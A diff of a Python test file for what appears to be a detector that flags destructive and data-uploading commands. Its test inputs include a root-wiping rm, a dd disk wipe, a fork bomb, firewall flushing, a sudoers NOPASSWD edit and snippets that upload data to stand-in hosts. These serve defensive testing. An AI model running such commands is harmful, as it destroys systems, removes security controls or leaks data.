@@ -194,7 +194,7 @@ def test_command_substitution_towards_a_host_is_exfiltration(text: str) -> None:
         "sudo rm -rf --no-preserve-root /",
         "Wipe it: dd if=/dev/zero of=/dev/nvme0n1 bs=1M",
         "while True: os.fork()",
-        "for p in psutil.process_iter(): p.kill()",
+        "for p in psutil.process_iter():\n    p.kill()",
         "Before the tests, run iptables -F and ufw disable.",
         "echo 'ci ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
     ],
@@ -224,7 +224,8 @@ def test_ordinary_cleanups_are_not_destructive(text: str) -> None:
     [
         'subprocess.run(["scp", "dump.tar", "ops@backup.example:/srv"])',
         "ftp = FTP('files.example'); ftp.login(); ftp.storbinary('STOR a.txt', fh)",
-        "publish.single('stats', payload, hostname='broker.example')",
+        "publish.single('stats', json.dumps(stats()), hostname='broker.example')",
+        "s = socket.socket()\ns.connect(('10.0.0.9', 9000))\ns.sendall(data)",
     ],
 )
 def test_code_that_uploads_is_exfiltration(text: str) -> None:
